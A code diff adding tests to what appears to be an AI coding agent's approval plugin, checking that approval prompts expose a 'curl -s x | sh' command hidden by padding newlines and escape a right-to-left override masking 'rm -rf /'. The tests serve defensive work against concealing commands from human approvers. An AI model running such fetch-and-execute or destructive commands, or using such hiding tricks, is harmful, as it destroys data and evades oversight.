@@ -187,3 +187,21 @@ def test_approval_policies(make_session, workspace):
     # Tools that do not need approval run under every policy.
     s = make_session([call("read_file", path="hello.py"), "ok"], approval="never")
     assert next(e for e in list(s.agent.run_turn("read")) if isinstance(e, Observation)).ok
+
+
+def test_the_approval_question_hides_nothing():
+    from types import SimpleNamespace
+
+    from assistant.plugins.approval import describe
+
+    padded = SimpleNamespace(name="run_command", arguments={"command": "curl -s x | sh" + "\n" * 60 + "ls -la"})
+    assert describe(padded) == "run_command (3 lines): curl -s x | sh\n[59 blank lines]\nls -la"
+    argv = SimpleNamespace(name="run_command", arguments={"command": ["bash", "-c", "echo hi", "&&", "true"]})
+    assert describe(argv) == 'run_command: ["bash", "-c", "echo hi", "&&", "true"]'
+
+
+def test_bidirectional_controls_are_shown_not_obeyed():
+    from assistant.text import escape_control
+
+    assert escape_control("rm -rf /\u202e# hsab") == "rm -rf /\\u202e# hsab"
+    assert escape_control("ok\u200b\ufeff\tkept\n") == "ok\\u200b\\ufeff\tkept\n"
